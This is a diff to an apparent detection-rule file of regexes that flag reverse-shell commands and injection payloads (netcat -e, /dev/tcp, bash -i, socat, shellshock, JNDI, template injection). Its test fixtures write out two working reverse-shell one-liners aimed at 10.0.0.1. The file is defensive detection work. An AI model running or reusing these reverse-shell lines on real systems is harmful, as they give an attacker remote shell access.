@@ -18,14 +18,15 @@ export const SHELL_PATTERNS: readonly Pattern[] = [
     expression: anyOf(
       '\\b(?:nc|ncat|netcat)(?:\\.exe|\\.traditional)? (?:-[a-z]+ ){0,3}?(?:-[a-z]*e[a-z]*|-c) ?(?:/bin/)?(?:ba|z)?sh',
       '\\b(?:nc|ncat|netcat)\\b[^|\\n]{0,40} -e ?(?:/bin/|cmd)',
-      '/dev/(?:tcp|udp)/\\S',
+      // A test of a port of this machine is none.
+      '/dev/(?:tcp|udp)/(?:[^1l\\s]|1[^2]|12[^7]|l[^o])',
       '\\bbash -i\\b ?[>0-9&]',
       '\\bmkfifo\\b.{0,60}\\b(?:nc|sh)\\b',
       '\\bsocat\\b.{0,60}\\bexec:',
     ),
     gates: [{ word: 'socket_command' }],
     hits: ['nc -e /bin/sh 10.0.0.1 4444', 'bash -i >& /dev/tcp/10.0.0.1/99 0>&1'],
-    misses: ['nc -l 8080', 'The bash is on Friday.'],
+    misses: ['nc -l 8080', 'The bash is on Friday.', 'echo > /dev/tcp/127.0.0.1/80'],
   },
   {
     name: 'download_and_run',
@@ -155,7 +156,7 @@ export const SHELL_PATTERNS: readonly Pattern[] = [
       'Syntax that only a payload has: shellshock, server-side includes, template and JNDI injection.',
     expression: anyOf(
       '\\(\\) ?\\{ ?:; ?\\} ?;',
-      '<!--#(?:exec|include)',
+      '<!--#(?:exec|include (?:file|virtual) ?= ?["\\\\\']{1,2}(?:/etc|/proc|/var/log|\\.\\./|/cgi))',
       '\\$\\{jndi:',
       '\\$\\{ifs\\}',
       '\\{\\{ ?(?:7 ?\\* ?[\'"]?7|config\\.(?:items|from|class|_)|self\\. ?_?(?:init|class|templ)|[\'"]{2}\\.|cycler|lipsum|exec ?["\'(\\\\]|request\\.application|import ?\\()',
